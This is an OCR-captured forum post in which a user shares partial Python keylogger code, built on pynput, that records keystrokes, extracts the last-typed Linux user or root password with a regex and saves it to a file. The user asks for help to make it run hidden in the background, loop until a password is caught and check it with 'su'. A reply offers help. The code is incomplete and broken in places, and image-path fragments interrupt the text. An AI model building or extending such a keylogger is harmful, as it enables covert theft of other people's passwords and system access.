Linux Root Password Keylogger: Help needed

Hi all

I have created a keylogger for the sole purpose of logging user or root password.
It logs everything, stores everything in a list at runtime
It has a function to sort data, basically this assumes that the last entered password is the correct password.

from pynput.keyboard import Listener, Key
import re

keys = []

def on_press(key):
    global keys

def on_release(key):
    if key == Key.esc:
        return False

with Listener(on_press=on_press, on_release=on_release) as listener:

# for sorting KeyCode and searching for password
def sort_pass():
    x = str(keys)
    replc = x.replace("'", "")replc2 = replc.replace(", ", "")
    y = re.findall(r">>(.*?)<Key.enter:", str(replc2))
    root_password = y[-1]
    print(f"Password Found: {root_password}")

    # for saving the last typed password to a file
    file = open('passwords.txt', 'w')


Seems good to me so far, but it only saves password when your press escape key at the same terminal where you started the script. This is what I want to change.

Here is the improvements I amlooking for:

1: automatically start the script (it does this but I want this to go in background)

2: currently the on_release function ends the script and grabs password when escape key is pressed; I want this script to store keystrokes for 30 minutes and after that look for password, if not found then clean the list and start up thelogger again, I want this to be running as much as possible and end only when it catches the password.

3: I have another function to run system commands and see if the password is correct (I can get this done myself)

4: I want to store the password as ‘correct password’ only if I am able to perform ‘su username’ successfully (I can get this done myself)

Can anyone help me or do anyone want to collaborate?

Yes I canhelp you text me

My Github Account for example Keyloggers :

1 Like